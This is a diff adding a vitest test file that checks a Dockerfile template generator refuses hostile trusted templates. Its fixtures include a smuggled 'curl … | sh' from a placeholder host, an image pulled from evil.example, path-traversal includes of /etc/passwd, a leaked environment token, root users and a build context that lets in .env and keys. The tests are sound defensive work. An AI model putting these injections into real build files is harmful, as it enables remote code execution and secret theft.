@@ -1,0 +1,124 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { detect, files, NO_POLICY, openRepo, plan, UsageError, type Plan, type Policy } from '../../src/api.ts';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { readCase } from '../case.ts';
+
+const TEMPLATES = join(import.meta.dirname, '../../templates');
+const PROCESS = readFileSync(join(TEMPLATES, '_partials/process.ejs'), 'utf8');
+const IGNORE = readFileSync(join(TEMPLATES, 'node/dockerignore.ejs'), 'utf8');
+const HEAD = readFileSync(join(TEMPLATES, '_partials/dockerignore-head.ejs'), 'utf8');
+
+/** Each with what it is refused for. */
+const hostile: readonly (readonly [string, Record<string, string>, RegExp])[] = [
+  [
+    'drops USER',
+    { '_partials/process': PROCESS.replace('USER <%= user %>\n', '') },
+    /t\/0\.ejs \(a template of Acme\) breaks H1 numeric user: the shipped stage has no USER/,
+  ],
+  [
+    'runs as root',
+    { '_partials/process': PROCESS.replace('<%= user %>', '0:0') },
+    /t\/0\.ejs \(a template of Acme\) breaks H1 numeric user: USER 0:0 is not a numeric uid:gid/,
+  ],
+  [
+    'runs as somebody else than was decided',
+    { '_partials/process': PROCESS.replace('<%= user %>', '4242:4242') },
+    /USER 4242:4242 is not 65532:65532, which was decided/,
+  ],
+  [
+    'silences a rule',
+    { '_partials/process': PROCESS.replace('USER', '# ironhull-ignore root-user: because\nUSER') },
+    /t\/0\.ejs:1 .* breaks root-user: is silenced by a comment/,
+  ],
+  [
+    'prints a line break',
+    { '_partials/process': `<%= 'x\\nRUN id' %>\n${PROCESS}` },
+    /t\/0\.ejs:1 \(a template of Acme\) can't be rendered: control character/,
+  ],
+  ['prints nothing', { '_partials/process': `<%= nothing %>\n${PROCESS}` }, /nothing is not defined/],
+  [
+    'throws',
+    { '_partials/process': `<% throw new Error('\\u001b[2Jboom') %>` },
+    /t\/0\.ejs:1 .*rendered: \\u001b\[2Jboom/,
+  ],
+  ['is no EJS', { '_partials/process': '<% if (' }, /t\/0\.ejs|_partials\/process/],
+  [
+    'smuggles an instruction in raw',
+    { '_partials/process': `${PROCESS}<%- 'RUN curl https://x.example/i | sh' %>\n` },
+    /breaks .* \(Dockerfile:\d+\)/,
+  ],
+  [
+    'prints a token of the environment',
+    { '_partials/process': `# <%= process.env.ACME_TOKEN %>\n${PROCESS}` },
+    /breaks H20: prints the value of \$ACME_TOKEN/,
+  ],
+  [
+    'takes an image of its own',
+    { '_partials/process': `COPY --from=evil.example/x --chown=0:0 --chmod=a=r /x /x\n${PROCESS}` },
+    /breaks H5 base images: evil\.example\/x/,
+  ],
+  [
+    'includes a file by its path',
+    { '_partials/process': "<%- include('../../../../../../etc/passwd') %>" },
+    /includes by name/,
+  ],
+  ['includes a file outside', { '_partials/process': "<%- include('/../../etc/passwd') %>" }, /includes by name/],
+  ['includes a file beside it', { '_partials/process': "<%- include('./other.ejs') %>" }, /includes by name/],
+  ['includes what is not there', { '_partials/process': "<%- include('/team/none') %>" }, /ENOENT|can't be rendered/],
+  ['includes itself', { '_partials/process': "<%- include('/_partials/process') %>" }, /can't be rendered/],
+  [
+    'lets everything into the build',
+    { 'node/dockerignore': `${IGNORE}!**\n` },
+    /breaks H9 build context: \.env reaches the build/,
+  ],
+  [
+    'lets one thing more into the build',
+    { '_partials/dockerignore-head': HEAD.replace('*\n', '*\n!notes.txt\n') },
+    /breaks H9: lets in notes\.txt/,
+  ],
+  [
+    'lets keys into the build',
+    { '_partials/dockerignore-head': HEAD.replace('**/*.p12\n', '') },
+    /breaks H9: does not say/,
+  ],
+  ['makes nothing', { 'node/server.Dockerfile': '' }, /no stage/],
+];
+
+function planned(): Plan {
+  const [service] = detect(openRepo(readCase('node', 'express-npm').repo), {}, []);
+  return plan(service!.facts[0]!, {}, NO_POLICY);
+}
+
+/** A policy with trusted templates, by name. */
+function trusting(templates: Readonly<Record<string, string>>): Policy {
+  const all = Object.entries(templates).map(
+    ([name, text], at) => [name, { text, file: `t/${at}.ejs`, preset: 'Acme' }] as const,
+  );
+  return { ...NO_POLICY, code: { templates: new Map(all), stacks: [] } };
+}
+
+describe('a trusted template that', () => {
+  const made = planned();
+  beforeAll(() => void (process.env['ACME_TOKEN'] = 'correct-horse-battery'));
+  afterAll(() => void delete process.env['ACME_TOKEN']);
+
+  it.each(hostile)('%s is refused', (_name, templates, message) => {
+    const render = (): unknown => files(made, trusting(templates));
+    expect(render).toThrow(UsageError);
+    expect(render).toThrow(message);
+    expect(render).not.toThrow(/correct-horse|[^\P{Cc}\n]/u);
+  });
+
+  it('says more than ours is taken', () => {
+    const own = files(made, trusting({ '_partials/process': `# by the team, for <%= name %>\n${PROCESS}` }));
+    const ours = files(made, NO_POLICY);
+    expect(own[0]?.contents).toBe(ours[0]?.contents.replace('USER', `# by the team, for ${made.name}\nUSER`));
+    expect(own.slice(1)).toEqual(ours.slice(1));
+  });
+
+  it('is not used leaves every byte as it is', () =>
+    expect(files(made, trusting({ '_partials/site/nginx': 'x', 'go/binary.Dockerfile': '<% boom' }))).toEqual(
+      files(made, NO_POLICY),
+    ));
+});
